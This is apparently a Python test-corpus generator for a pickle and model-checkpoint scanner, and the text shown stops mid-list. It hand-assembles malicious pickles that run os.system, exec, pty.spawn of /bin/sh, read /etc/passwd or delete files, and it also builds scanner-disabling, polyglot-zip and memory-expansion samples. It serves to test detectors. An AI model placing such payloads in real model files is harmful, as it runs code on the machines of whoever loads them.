"""An attack corpus for ``ckptconv scan``, generated at test time.

Each sample is written from scratch by a tiny pickle assembler (no module the
pickle names is imported, nothing is ever unpickled by CPython here), one or
more per *attack class* that the public test suites of picklescan
(``tests/``), fickling (``test/``) and modelscan (``tests/``) cover, and
labelled as those suites label them: ``malicious``, ``benign`` or ``broken``.
``source`` says which suite the class comes from; ``attack`` names the class.

Used by ``tests/test_scan.py`` (every malicious sample must be flagged unsafe
or refused, no benign one unsafe) and by ``bench/bench_scan.py``, which runs
the other scanners on the same files.

Build for the class, not the file: the samples vary protocol (0-5), opcode
spelling (GLOBAL, STACK_GLOBAL, INST, OBJ, NEWOBJ), how the names reach the
stack (memo, text strings) and the container (plain pickle, torch zip, legacy).
"""

from __future__ import annotations

import io
import os
import pickle
import struct
import zipfile
from collections.abc import Callable, Sequence
from dataclasses import dataclass
from typing import Any

__all__ = ["Sample", "build_corpus", "call", "pickle_of"]


# ---------------------------------------------------------------------------------------
# A tiny pickle assembler
# ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class G:
    """A global reference ``module.name`` (never imported)."""

    module: str
    name: str


@dataclass(frozen=True)
class Call:
    """``func(*args)``; ``how`` is the opcode that calls it (reduce, inst, obj, newobj)."""

    func: Any
    args: tuple[Any, ...] = ()
    how: str = "reduce"


@dataclass(frozen=True)
class Build:
    """``obj.__setstate__(state)`` through BUILD."""

    obj: Any
    state: Any


def _has_nodes(value: Any) -> bool:
    if isinstance(value, (G, Call, Build)):
        return True
    if isinstance(value, (tuple, list)):
        return any(_has_nodes(item) for item in value)
    if isinstance(value, dict):
        return any(_has_nodes(k) or _has_nodes(v) for k, v in value.items())
    return False


def _plain(value: Any, protocol: int) -> bytes:
    """Opcodes for plain data, from CPython's pickler, without header, frame and STOP."""
    body = pickle.dumps(value, protocol=protocol)
    if protocol >= 2:
        body = body[2:]
    if body[:1] == pickle.FRAME:
        body = body[9:]
    assert body.endswith(pickle.STOP)
    return body[:-1]


def _text(value: str, protocol: int) -> bytes:
    raw = value.encode("utf-8")
    if protocol >= 4 and len(raw) < 256:
        return pickle.SHORT_BINUNICODE + bytes([len(raw)]) + raw
    if protocol >= 1:
        return pickle.BINUNICODE + struct.pack("<I", len(raw)) + raw
    return _plain(value, protocol)


def _encode(value: Any, protocol: int) -> bytes:
    if isinstance(value, G):
        if protocol >= 4:
            return _text(value.module, protocol) + _text(value.name, protocol) + pickle.STACK_GLOBAL
        return pickle.GLOBAL + f"{value.module}\n{value.name}\n".encode()
    if isinstance(value, Call):
        args = tuple(value.args)
        if value.how == "inst":
            assert isinstance(value.func, G)
            items = b"".join(_encode(arg, protocol) for arg in args)
            return pickle.MARK + items + pickle.INST + f"{value.func.module}\n{value.func.name}\n".encode()
        if value.how == "obj":
            items = b"".join(_encode(arg, protocol) for arg in args)
            return pickle.MARK + _encode(value.func, protocol) + items + pickle.OBJ
        if value.how == "newobj":
            return _encode(value.func, protocol) + _encode(args, protocol) + pickle.NEWOBJ
        return _encode(value.func, protocol) + _encode(args, protocol) + pickle.REDUCE
    if isinstance(value, Build):
        return _encode(value.obj, protocol) + _encode(value.state, protocol) + pickle.BUILD
    if not _has_nodes(value):
        return _plain(value, protocol)
    if isinstance(value, tuple):
        items = b"".join(_encode(item, protocol) for item in value)
        if protocol >= 2 and 1 <= len(value) <= 3:
            return items + {1: pickle.TUPLE1, 2: pickle.TUPLE2, 3: pickle.TUPLE3}[len(value)]
        return pickle.MARK + items + pickle.TUPLE
    if isinstance(value, list):
        return pickle.MARK + b"".join(_encode(item, protocol) for item in value) + pickle.LIST
    if isinstance(value, dict):
        items = b"".join(_encode(k, protocol) + _encode(v, protocol) for k, v in value.items())
        return pickle.MARK + items + pickle.DICT
    raise TypeError(f"cannot encode {type(value).__name__}")


def pickle_of(value: Any, protocol: int = 4, *, frame: bool = True) -> bytes:
    """A whole pickle of ``value`` (a tree of G/Call/Build and plain data)."""
    body = _encode(value, protocol) + pickle.STOP
    if protocol < 2:
        return body
    header = pickle.PROTO + bytes([protocol])
    if protocol >= 4 and frame and len(body) >= 4:
        # As CPython frames it: one frame around everything after PROTO.
        return header + pickle.FRAME + struct.pack("<Q", len(body)) + body
    return header + body


def call(module: str, name: str, *args: Any, protocol: int = 4) -> bytes:
    """A pickle that calls ``module.name(*args)`` (what a ``__reduce__`` payload writes)."""
    return pickle_of(Call(G(module, name), args), protocol)


# ---------------------------------------------------------------------------------------
# The samples
# ---------------------------------------------------------------------------------------


@dataclass(frozen=True)
class Sample:
    """One file of the corpus.

    Attributes:
        name: file name under the corpus folder.
        label: ``malicious``, ``benign`` or ``broken``, as the peer suite labels it.
        source: ``picklescan``, ``fickling`` or ``modelscan`` (whose suite covers the class), or
            ``ckptconv`` for the few classes none of them covers.
        attack: the attack class (or what a benign file exercises).
        make: writes the file's bytes.
    """

    name: str
    label: str
    source: str
    attack: str
    make: Callable[[], bytes]


_PAYLOAD = "__import__('os').system('echo pwned')"
_SHELL = "echo pwned"


def _zip(members: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_STORED) as archive:
        for name, data in members.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def _torch_zip(data_pkl: bytes, extra: dict[str, bytes] | None = None) -> bytes:
    """A zip laid out as torch.save writes it, with ``data_pkl`` as its pickle."""
    members = {"archive/data.pkl": data_pkl, "archive/byteorder": b"little", "archive/version": b"3\n"}
    members.update(extra or {})
    return _zip(members)


def _legacy(first: bytes) -> bytes:
    """A legacy torch file whose first pickle (the magic number's place) is ``first``."""
    rest = pickle.dumps(1001, protocol=2) + pickle.dumps({"little_endian": True}, protocol=2)
    return first + rest + pickle.dumps({}, protocol=2) + pickle.dumps([], protocol=2)


def _npy(payload: bytes, descr: str = "|O", count: int = 1) -> bytes:
    """A numpy .npy file; with dtype object its data is a pickle."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': ({count},), }}"
    header += " " * (63 - (10 + len(header)) % 64) + "\n"
    return b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header.encode() + payload


def _corrupt_cd_crc(data: bytes) -> bytes:
    out = bytearray(data)
    at = out.find(b"PK\x01\x02")
    for i in range(4):
        out[at + 16 + i] ^= 0xFF
    return bytes(out)


def _samples() -> list[Sample]:
    s: list[Sample] = []

    def add(name: str, label: str, source: str, attack: str, make: Callable[[], bytes]) -> None:
        s.append(Sample(name, label, source, attack, make))

    # --- picklescan: reduce payloads of every family, at several protocols ---------------
    for protocol in (0, 3, 4):
        add(
            f"ps_eval_v{protocol}.pkl",
            "malicious",
            "picklescan",
            "builtins.eval",
            lambda p=protocol: call("builtins" if p >= 3 else "__builtin__", "eval", "print(456)", protocol=p),
        )
        add(
            f"ps_os_system_v{protocol}.pkl",
            "malicious",
            "picklescan",
            "os.system",
            lambda p=protocol: call("posix", "system", _SHELL, protocol=p),
        )
        add(
            f"ps_benign_list_v{protocol}.pkl",
            "benign",
            "picklescan",
            "plain list",
            lambda p=protocol: pickle.dumps(["a", "b", "c"], protocol=p),
        )
    families = [
        ("httplib", "HTTPSConnection", ("example.invalid",), 0, "network client (py2 name)"),
        ("http.client", "HTTPSConnection", ("example.invalid",), 4, "network client"),
        ("nntplib", "NNTP", ("news.invalid",), 4, "network client"),
        ("requests.api", "get", ("https://example.invalid",), 4, "network client"),
        ("aiohttp.client", "ClientSession", (), 4, "network client"),
        ("socket", "create_connection", (("example.invalid", 80),), 4, "socket"),
        ("subprocess", "run", (["ls", "-l"],), 4, "process"),
        ("sys", "exit", (0,), 4, "interpreter exit"),
        ("_pickle", "loads", (b"I12345\n.",), 4, "nested pickle"),
        ("cPickle", "loads", (b"I12345\n.",), 0, "nested pickle (py2 name)"),
        ("runpy", "_run_code", ("print(456)",), 4, "code runner"),
        ("pip", "main", (["install", "x"],), 0, "package installer"),
        ("torch._inductor.codecache", "compile_file", ("", "", ["sh", "-c", _SHELL]), 4, "torch compiler"),
        ("pydoc", "pipepager", ("", _SHELL), 4, "pager runs a command"),
        ("venv", "create", ("venv", False, False, True, False, _SHELL), 4, "venv runs a prompt command"),
        ("timeit", "timeit", ("", _PAYLOAD), 4, "code runner"),
        ("numpy.testing._private.utils", "runstring", (_PAYLOAD, {}), 4, "code runner"),
        ("torch.utils.bottleneck.__main__", "run_cprofile", (_PAYLOAD, {}), 4, "code runner"),
        ("torch._dynamo.guards", "GuardBuilder.get", ({}, _PAYLOAD), 4, "torch eval helper"),
        (
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
            ({}, _PAYLOAD, []),
            4,
            "torch eval helper",
        ),
        ("torch.utils.collect_env", "run", (_SHELL,), 4, "process"),
        ("torch.utils.collect_env", "run_and_read_all", (None, _SHELL), 4, "process"),
        ("torch.utils.data.datapipes.utils.decoder", "basichandlers", ("pickle", b""), 4, "nested pickle"),
        ("torch.jit.unsupported_tensor_ops", "execWrapper", (_PAYLOAD, {}, {}), 4, "code runner"),
        ("torch.utils._config_module", "ConfigModule.load_config", ({}, b""), 4, "nested pickle"),
        ("torch.storage", "_load_from_bytes", (b"",), 4, "nested torch.load"),
        ("torch", "compile", (None,), 4, "torch compiler"),
        ("torch.serialization", "load", ("other.bin",), 4, "nested torch.load"),
        ("trace", "Trace.run", ({}, _PAYLOAD), 4, "code runner"),
        ("trace", "Trace.runctx", ({}, _PAYLOAD, {}, {}), 4, "code runner"),
        ("profile", "Profile.run", ({}, _PAYLOAD), 4, "code runner"),
        ("cProfile", "runctx", (_PAYLOAD, None, None), 4, "code runner"),
        ("cProfile", "run", (_PAYLOAD,), 4, "code runner"),
        ("lib2to3.pgen2.grammar", "Grammar.loads", ({}, b""), 4, "nested pickle"),
        ("lib2to3.pgen2.pgen", "ParserGenerator.make_label", (None, {}, '""+' + _PAYLOAD), 4, "eval"),
        ("idlelib.debugobj", "ObjectTreeItem.SetText", ({}, _PAYLOAD), 4, "eval"),
        ("idlelib.autocomplete", "AutoComplete.get_entity", ({}, _PAYLOAD), 4, "eval"),
        ("idlelib.calltip", "get_entity", (_PAYLOAD,), 4, "eval"),
        ("idlelib.run", "Executive.runcode", ({}, _PAYLOAD), 4, "code runner"),
        ("idlelib.pyshell", "ModifiedInterpreter.runcode", ({}, _PAYLOAD), 4, "code runner"),
        ("code", "InteractiveInterpreter.runcode", ({}, _PAYLOAD), 4, "code runner"),
        ("doctest", "debug_script", (_PAYLOAD, True), 4, "code runner"),
        ("ensurepip", "_run_pip", ([_PAYLOAD],), 4, "code runner"),
        ("asyncio.unix_events", "_UnixSubprocessTransport._start", ({}, "id", True, None, None, None, 0), 4, "process"),
        ("distutils.file_util", "write_file", ("pwned.env", ["x"]), 4, "file write"),
        ("ctypes", "CDLL", (None,), 4, "native library"),
        ("pty", "spawn", (["/bin/sh", "-c", "id"],), 4, "process"),
        ("numpy.f2py.crackfortran", "getlincoef", (_PAYLOAD, []), 4, "eval"),
        ("io", "FileIO", ("/etc/hosts", "r"), 4, "file open"),
        ("_io", "FileIO", ("/etc/hosts", "r"), 0, "file open"),
        ("urllib.request", "urlopen", ("https://example.invalid",), 4, "network client"),
        ("logging", "FileHandler", ("/tmp/pwned.log",), 4, "file write"),
        ("imaplib", "IMAP4", ("mail.invalid",), 4, "network client"),
        ("uuid", "_get_command_stdout", ("id",), 4, "process"),
        ("_osx_support", "_read_output", ("id",), 4, "process"),
        ("_aix_support", "_read_cmd_output", ("id",), 4, "process"),
        ("_pyrepl.pager", "pipe_pager", ("", _SHELL), 4, "process"),
        ("test.support.script_helper", "assert_python_ok", ("-c", _PAYLOAD), 4, "process"),
        ("ssl", "get_server_certificate", (("x.invalid", 443),), 4, "network client"),
        ("webbrowser", "open", ("https://example.invalid",), 4, "process"),
    ]
    for module, name, args, protocol, attack in families:
        add(
            f"ps_{module}.{name}.pkl".replace("/", "_"),
            "malicious",
            "picklescan",
            attack,
            lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p),
        )
    add(
        "ps_bdb_run_v2.pkl",
        "malicious",
        "picklescan",
        "debugger runs code",
        lambda: pickle_of(Call(G("bdb", "Bdb.run"), (Call(G("bdb", "Bdb")), _PAYLOAD)), 2),
    )
    add(
        "ps_partial_torch_load.pkl",
        "malicious",
        "picklescan",
        "partial(torch.load)",
        lambda: pickle_of(Call(Call(G("functools", "partial"), (G("torch", "load"), "other.bin")), ()), 4),
    )
    add(
        "ps_sour_pickle.pkl",
        "malicious",
        "picklescan",
        "globals/compile/eval chain (protocol 0)",
        lambda: (
            b"c__builtin__\nglobals\n(tRp100\n0c__builtin__\ncompile\n(S'x=1'\nS''\nS'exec'\ntRp101\n0"
            b"c__builtin__\neval\n(g101\ng100\ntRp102\n0g102\n."
        ),
    )
    add(
        "ps_inst_exec.pkl",
        "malicious",
        "picklescan",
        "INST opcode",
        lambda: pickle_of(Call(G("__builtin__", "exec"), ("print(1)",), how="inst"), 0),
    )
    add(
        "ps_memo_names.pkl",
        "malicious",
        "picklescan",
        "STACK_GLOBAL names from the memo (text opcodes)",
        lambda: b"Vos\np2\n0Vsystem\np3\n0Vtorch\np0\n0g2\ng3\n\x93(Vid\ntR.",
    )
    add(
        "ps_memo_names_junk.pkl",
        "malicious",
        "picklescan",
        "payload then bytes after STOP",
        lambda: b"Vos\np2\n0Vsystem\np3\n0g2\ng3\n\x93(Vid\ntR.\n\n\t\t",
    )
    add(
        "ps_string_stack_global.pkl",
        "malicious",
        "picklescan",
        "STACK_GLOBAL names from STRING opcodes",
        lambda: b"S'os'\nS'system'\n\x93S'ls'\n\x85R.",
    )
    add(
        "ps_keyerror.pkl",
        "malicious",
        "picklescan",
        "payload, then a memo slot never written",
        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0\x8c\x02os\x94h\x03h\x00\x93K\x42.",
    )
    add(
        "ps_type_confusion.pkl",
        "malicious",
        "picklescan",
        "payload, then STACK_GLOBAL of an int",
        lambda: b"\x80\x04cos\nsystem\nVid\n\x85R0J\x2a\x00\x00\x00\x94\x8c\x02os\x94h\x00h\x01\x93K\x42.",
    )
    add(
        "ps_broken_exec.pkl",
        "broken",
        "picklescan",
        "payload cut before STOP",
        lambda: b"cbuiltins\nexec\n(X>\x00\x00\x00f = open('my_file.txt', 'a'); f.write('Malicious'); f.close()tR",
    )
    add(
        "ps_attrgetter_import.pkl",
        "malicious",
        "picklescan",
        "operator.attrgetter + __import__",
        lambda: pickle_of(
            Call(
                Call(Call(G("operator", "attrgetter"), ("system",)), (Call(G("builtins", "__import__"), ("os",)),)),
                ("id",),
            ),
            4,
        ),
    )
    add(
        "ps_methodcaller_locate.pkl",
        "malicious",
        "picklescan",
        "operator.methodcaller + pydoc.locate",
        lambda: pickle_of(
            Call(Call(G("operator", "methodcaller"), ("system", "id")), (Call(G("pydoc", "locate"), ("os",)),)), 4
        ),
    )
    add(
        "ps_importlib.pkl",
        "malicious",
        "picklescan",
        "importlib.import_module",
        lambda: call("importlib", "import_module", "os"),
    )
    add(
        "ps_marshal_code.pkl",
        "malicious",
        "picklescan",
        "marshal + types.FunctionType",
        lambda: pickle_of(Call(Call(G("types", "FunctionType"), (Call(G("marshal", "loads"), (b"\xe3",)), {})), ())),
    )
    add(
        "ps_types_codetype.pkl",
        "malicious",
        "picklescan",
        "types.CodeType",
        lambda: call("types", "CodeType", 0, 0, 0, 0, 0, 0, b"", (), (), (), "", "", "", 0, b"", b""),
    )
    add(
        "ps_cloudpickle_code.pkl",
        "malicious",
        "picklescan",
        "cloudpickle function rebuild",
        lambda: call("cloudpickle.cloudpickle", "_make_function", None, {}, None, None, None),
    )
    add(
        "ps_second_pickle.pkl",
        "malicious",
        "picklescan",
        "benign pickle, then a malicious one",
        lambda: pickle.dumps(["a", "b", "c"]) + call("requests.api", "get", "https://example.invalid"),
    )
    add(
        "ps_torch_zip.pt",
        "malicious",
        "picklescan",
        "torch zip whose data.pkl calls eval",
        lambda: _torch_zip(call("builtins", "eval", "print(456)")),
    )
    add(
        "ps_zip_root_data_pkl.zip",
        "malicious",
        "picklescan",
        "zip with data.pkl at its root",
        lambda: _zip({"data.pkl": call("builtins", "eval", "print(456)")}),
    )
    add(
        "ps_zip_wrong_ext.zip",
        "malicious",
        "picklescan",
        "zip member with another suffix",
        lambda: _zip({"archive/data.txt": call("builtins", "eval", "print(456)")}),
    )
    add(
        "ps_zip_crc.pt",
        "malicious",
        "picklescan",
        "torch zip with a corrupt central-directory CRC",
        lambda: _corrupt_cd_crc(_torch_zip(call("builtins", "eval", "print(456)"))),
    )
    add(
        "ps_zip_cd_name.pt",
        "malicious",
        "picklescan",
        "central directory names another member",
        lambda: _torch_zip(call("builtins", "eval", "print(456)")).replace(b"archive/data.pkl", b"archive/datap.kl", 1),
    )
    add(
        "ps_legacy_magic_bypass.pt",
        "malicious",
        "picklescan",
        "legacy file whose magic-number pickle runs code",
        lambda: _legacy(call("os", "system", _SHELL, protocol=2)),
    )
    add(
        "ps_sys_modules.pkl",
        "malicious",
        "picklescan",
        "overriding sys.modules",
        lambda: pickle_of(Call(G("builtins", "dict.__setitem__"), (G("sys", "modules"), "torch", G("os", "system")))),
    )
    add(
        "ps_dns_exfiltration.npy",
        "malicious",
        "picklescan",
        "object .npy whose data pickle opens a socket",
        lambda: _npy(call("ssl", "get_server_certificate", ("x.invalid", 443), protocol=3)),
    )
    add("ps_int_array.npy", "benign", "picklescan", "numeric .npy", lambda: _npy(struct.pack("<2q", 1, 2), "<i8", 2))
    add("ps_not_a_pickle.bin", "broken", "picklescan", "GLOBAL with undecodable bytes", lambda: b"cmod\n\xf8\n")

    # --- fickling: bypasses, expansions, scanner deactivation, polyglots -------------------
    for protocol in (0, 1, 2, 3, 4, 5):
        for module, name, args in (
            ("os", "system", ("id",)),
            ("os", "execv", ("/bin/sh", ["/bin/sh", "-c", "id"])),
            ("subprocess", "Popen", (["id"],)),
            ("builtins", "exec", (_PAYLOAD,)),
            ("builtins", "getattr", (G("builtins", "object"), "__class__")),
            ("socket", "socket", ()),
            ("runpy", "run_path", ("/tmp/x.py",)),
            ("pty", "spawn", ("/bin/sh",)),
            ("multiprocessing.util", "spawnv_passfds", (b"/bin/sh", [b"/bin/sh", b"-c", b"id"], ())),
            ("pydoc", "locate", ("os.system",)),
            ("sys", "exit", (0,)),
        ):
            add(
                f"fk_{module}.{name}_v{protocol}.pkl",
                "malicious",
                "fickling",
                f"{module}.{name}",
                lambda m=module, n=name, a=args, p=protocol: call(m, n, *a, protocol=p),
            )
    add(
        "fk_pty_obj.pkl",
        "malicious",
        "fickling",
        "OBJ opcode",
        lambda: pickle_of(Call(G("pty", "spawn"), ("id",), how="obj"), 1),
    )
    add(
        "fk_pty_build.pkl",
        "malicious",
        "fickling",
        "payload then BUILD",
        lambda: pickle_of(Build(Call(G("pty", "spawn"), ("id",)), "gottem"), 4),
    )
    add(
        "fk_ctypes_getattr.pkl",
        "malicious",
        "fickling",
        "getattr(ctypes.CDLL(...), 'system')",
        lambda: pickle_of(
            Call(Call(G("builtins", "getattr"), (Call(G("ctypes", "CDLL"), ("libc.so.6",)), "system")), (b"id",)), 5
        ),
    )
    add(
        "fk_code_console.pkl",
        "malicious",
        "fickling",
        "code.InteractiveConsole",
        lambda: call("code", "InteractiveConsole"),
    )
    add(
        "fk_ctypes_util.pkl",
        "malicious",
        "fickling",
        "submodule of a code-running package",
        lambda: call("ctypes.util", "find_library", "c"),
    )
    add(
        "fk_importlib_util.pkl",
        "malicious",
        "fickling",
        "submodule of a code-running package",
        lambda: call("importlib.util", "find_spec", "os"),
    )
    add(
        "fk_sys_modules_ref.pkl",
        "malicious",
        "fickling",
        "reference to sys.modules",
        lambda: pickle_of(G("sys", "modules")),
    )
    add(
        "fk_types_functiontype_ref.pkl",
        "malicious",
        "fickling",
        "reference to types.FunctionType",
        lambda: pickle_of(G("types", "FunctionType")),
    )
    for hook in ("remove_hook", "deactivate_safe_ml_environment"):
        add(
            f"fk_fickling_hook_{hook}.pkl",
            "malicious",
            "fickling",
            "disables a scanner's hook",
            lambda h=hook: call("fickling.hook", h),
        )
    add(
        "fk_fickling_hook_global_v0.pkl",
        "malicious",
        "fickling",
        "disables a scanner's hook",
        lambda: call("fickling.hook", "remove_hook", protocol=0),
    )
    add(
        "fk_picklescan_hook.pkl",
        "malicious",
        "fickling",
        "tampers with another scanner",
        lambda: call("picklescan.scanner", "scan_pickle_bytes"),
    )
    add(
        "fk_modelscan_hook.pkl",
        "malicious",
        "fickling",
        "tampers with another scanner",
        lambda: call("modelscan.settings", "DEFAULT_SETTINGS.clear"),
    )
    add(
        "fk_ast_parse.pkl", "malicious", "fickling", "ast.parse (compiles code)", lambda: call("ast", "parse", _PAYLOAD)
    )
    add(
        "fk_interpreters.pkl",
        "malicious",
        "fickling",
        "sub-interpreter creation",
        lambda: call("_interpreters", "create"),
    )
    add(
        "fk_xxsubinterpreters.pkl",
        "malicious",
        "fickling",
        "sub-interpreter creation",
        lambda: call("_xxsubinterpreters", "run_string", 0, _PAYLOAD),
    )
    add("fk_shutil_rmtree.pkl", "malicious", "fickling", "file removal", lambda: call("shutil", "rmtree", "/tmp/x"))
    add("fk_builtins_open.pkl", "malicious", "fickling", "file open", lambda: call("builtins", "open", "/etc/passwd"))
    add("fk_signal.pkl", "malicious", "modelscan", "signal", lambda: call("_signal", "raise_signal", 15, protocol=0))
    add(
        "fk_mailcap.pkl",
        "malicious",
        "modelscan",
        "mailcap runs test commands",
        lambda: call("mailcap", "findmatch", {"text/plain": [{"view": "cat %s", "test": "true"}]}, "text/plain"),
    )
    add(
        "fk_billion_laughs.pkl",
        "malicious",
        "fickling",
        "memo/DUP expansion beyond any budget",
        _billion_laughs,
    )
    # fickling's resource-exhaustion cases (tests/test_crashes.py, TestExpansionAttacks): one container
    # fetched from the memo or DUPed into itself again and again.
    add(
        "fk_memo_expansion.pkl",
        "malicious",
        "fickling",
        "memo GET/APPEND of a list into itself 60 times",
        lambda: memo_self_appends(60),
    )
    add("fk_dup_expansion.pkl", "malicious", "fickling", "150 DUPs of one list", lambda: dup_expansion(150))
    add(
        "fk_resource_limits.pkl",
        "malicious",
        "fickling",
        "memo GET/APPEND into itself 100 times",
        lambda: memo_self_appends(100),
    )
    add(
        "fk_get_ratio.pkl",
        "malicious",
        "fickling",
        "text GET/APPEND into itself 60 times (protocol 2)",
        lambda: memo_self_appends(60, protocol=2),
    )
    add(
        "fk_check_safety_exhaustion.pkl",
        "malicious",
        "fickling",
        "memo GET/APPEND into itself 200 times",
        lambda: memo_self_appends(200),
    )
    # The same class reached other ways, and names the peers list that ckptconv called foreign.
    for name, data, what in peer_cases():
        add(name, "malicious", "ckptconv", what, lambda data=data: data)
    add("fk_frame_straddle.pkl", "malicious", "fickling", "opcode straddles a FRAME boundary", straddle_pickle)
    add(
        "fk_frame_straddle_binary.pkl",
        "malicious",
        "fickling",
        "argument straddles a FRAME boundary",
        straddle_binary_pickle,
    )
    add(
        "fk_frame_too_long.pkl",
        "malicious",
        "fickling",
        "FRAME longer than the bytes it frames",
        lambda: pickle.PROTO + b"\x04" + pickle.FRAME + struct.pack("<Q", 4096) + call("os", "system", "id")[11:],
    )
    add(
        "fk_frame_nested.pkl",
        "malicious",
        "fickling",
        "FRAME inside an unfinished frame",
        nested_frame_pickle,
    )
    add(
        "fk_polyglot_zip_pickle.pt",
        "malicious",
        "fickling",
        "pickle that is also a zip (polyglot)",
        lambda: call("os", "system", "id") + _torch_zip(pickle.dumps({"w": 1}, protocol=2)),
    )
    add(
        "fk_benign_ordereddict.pkl",
        "benign",
        "fickling",
        "collections.OrderedDict",
        lambda: pickle_of(Call(G("collections", "OrderedDict"), ()), 4),
    )
    add(
        "fk_benign_namespace.pkl",
        "benign",
        "fickling",
        "argparse.Namespace (foreign class)",
        lambda: pickle.dumps({"args": _namespace_obj()}, protocol=4),
    )
    add(
        "fk_benign_nested.pkl",
        "benign",
        "fickling",
        "nested plain data, every protocol 5 feature",
        lambda: pickle.dumps({"a": [1, 2.5, None, True], "b": (b"x" * 300, "y" * 300), "c": {1, 2}}, protocol=5),
    )
    add(
        "fk_benign_shared_memo.pkl",
        "benign",
        "fickling",
        "shared objects (memo references)",
        lambda: pickle.dumps(_shared_list(), protocol=4),
    )
    add(
        "fk_benign_recursive.pkl",
        "benign",
        "fickling",
        "a list that contains itself",
        lambda: pickle.dumps(_recursive(), protocol=4),
    )
    add(
        "fk_benign_large_bytes.pkl",
        "benign",
        "fickling",
        "bytes written outside frames (>= 64 KiB)",
        lambda: pickle.dumps({"blob": b"\x00" * 70000, "after": [1, 2, 3]}, protocol=4),
    )

    # --- modelscan: payloads in model containers ---------------------------------------
    for protocol in (0, 1, 2, 3, 4):
        add(
            f"ms_os_system_v{protocol}.pkl",
            "malicious",
            "modelscan",
            "os.system",
            lambda p=protocol: call("os", "system", "echo pwned", protocol=p),
        )
        add(
            f"ms_exec_v{protocol}.pkl",
            "malicious",
            "modelscan",
            "builtins.exec",
            lambda p=protocol: call("builtins", "exec", _PAYLOAD, protocol=p),
        )
    add(
        "ms_webbrowser.pkl",
        "malicious",
        "modelscan",
        "webbrowser.open",
        lambda: call("webbrowser", "open", "https://example.invalid"),
    )
    add(
        "ms_unsafe_zip_pytorch.pt",
        "malicious",
        "modelscan",
        "torch zip whose data.pkl runs os.system",
        lambda: _torch_zip(
            pickle_of({"weight": Call(G("collections", "OrderedDict"), ()), "x": Call(G("os", "system"), ("id",))}, 2)
        ),
    )
    add(
        "ms_dill.pkl",
        "malicious",
        "modelscan",
        "dill code rebuild",
        lambda: call("dill._dill", "_create_function", None, {}, "f"),
    )
    add(
        "ms_joblib.pkl",
        "malicious",
        "modelscan",
        "joblib.load of another file",
        lambda: call("joblib", "load", "other.joblib"),
    )
    add(
        "ms_numpy_object.npy",
        "malicious",
        "modelscan",
        "object .npy whose data pickle runs exec",
        lambda: _npy(call("builtins", "exec", _PAYLOAD, protocol=3)),
    )
    # --- classes none of the three suites covers, found while building this one -----------
    add(
        "ck_zip_duplicate_name.pt",
        "malicious",
        "ckptconv",
        "two zip records of one name (torch reads the first)",
        _duplicate_zip,
    )
    add(
        "ck_commands_getoutput_v0.pkl",
        "malicious",
        "ckptconv",
        "Python 2 name CPython renames (commands)",
        lambda: call("commands", "getoutput", "id", protocol=0),
    )
    add(
        "ck_builtin_reduce_v0.pkl",
        "malicious",
        "ckptconv",
        "Python 2 name CPython renames (functools.reduce)",
        lambda: call("__builtin__", "reduce", G("posix", "system"), ["id"], protocol=0),
    )
    add("ms_password_zip.zip", "broken", "modelscan", "encrypted zip", _encrypted_zip)
    return s


def _namespace_obj() -> Any:
    import argparse

    return argparse.Namespace(lr=0.1, epochs=3)


def _shared_list() -> Any:
    shared = list(range(50))
    return {"a": shared, "b": shared, "c": [shared, shared]}


def _recursive() -> Any:
    value: list[Any] = [1, 2]
    value.append(value)
    return value


def _billion_laughs(levels: int = 40) -> bytes:
    """A tuple of two copies of the previous tuple, ``levels`` deep: 2**levels leaves in ~90 bytes."""
    body = pickle.EMPTY_LIST + (pickle.DUP + pickle.TUPLE2) * levels + pickle.STOP
    return pickle.PROTO + b"\x04" + body


def memo_self_appends(count: int, *, protocol: int = 4) -> bytes:
    """``L = []`` memoised, then ``L.append(L)`` ``count`` times through memo reads (fickling's case)."""
    if protocol >= 4:
        return b"\x80\x04]\x94" + b"h\x00a" * count + b"."
    return b"\x80\x02]p0\n" + b"g0\na" * count + b"."


def dup_expansion(count: int) -> bytes:
    """An empty list DUPed ``count`` times (CPython's pickler never writes DUP)."""
    return b"\x80\x04]" + b"2" * count + b"."


def _stack_global(module: str, name: str) -> bytes:
    return (
        b"\x80\x04\x8c"
        + bytes([len(module)])
        + module.encode()
        + b"\x8c"
        + bytes([len(name)])
        + name.encode()
        + b"\x93)R."
    )


def peer_cases() -> list[tuple[str, bytes, str]]:
    """``(file name, bytes, what)``: expansion variants and names the peer scanners' lists flag."""
    return [
        (
            "ck_two_lists_in_each_other.pkl",
            b"\x80\x04]\x94]\x94" + b"h\x00h\x01a0h\x01h\x00a0" * 30 + b"h\x00.",
            "two lists appended into each other 30 times",
        ),
        (
            "ck_memo_reads_left_on_the_stack.pkl",
            b"\x80\x04]\x94" + b"h\x00" * 100 + b".",
            "one list fetched from the memo 100 times and left on the stack",
        ),
        (
            "ck_object_in_itself.pkl",
            b"\x80\x04\x8c\x03foo\x8c\x03Bar\x93)\x81\x94" + b"h\x00a" * 40 + b".",
            "a foreign object appended into itself 40 times",
        ),
        ("ck_future_ssl.pkl", _stack_global("__future__", "_ssl.RAND_bytes"), "attribute chain to _ssl"),
        ("ck_module_attribute_sys.pkl", _stack_global("collections", "abc.sys.modules"), "attribute chain to sys"),
        (
            "ck_elastic_etcd.pkl",
            _stack_global("torch.distributed.elastic.rendezvous.etcd_rendezvous", "EtcdRendezvousHandler"),
            "torch elastic rendezvous handler",
        ),
        (
            "ck_elastic_c10d.pkl",
            _stack_global("torch.distributed.elastic.rendezvous.c10d_rendezvous_backend", "C10dRendezvousBackend"),
            "torch elastic rendezvous backend",
        ),
        ("ck_saferpickle.pkl", _stack_global("saferpickle", "disable"), "scanner-disabling module saferpickle"),
        ("ck_model_unpickler.pkl", _stack_global("model_unpickler", "disable"), "scanner-disabling model_unpickler"),
        ("ck_short_protocol0.pkl", b"cos\nsystem\n.", "a 12-byte protocol 0 pickle naming os.system"),
        (
            "ck_no_proto_header.pkl",
            b"\x8c\x08builtins\x8c\x04exec\x93\x8c\x011\x85R.",
            "protocol 4 opcodes without a PROTO header",
        ),
        ("ck_itemgetter.pkl", _stack_global("operator", "itemgetter"), "operator.itemgetter (picklescan)"),
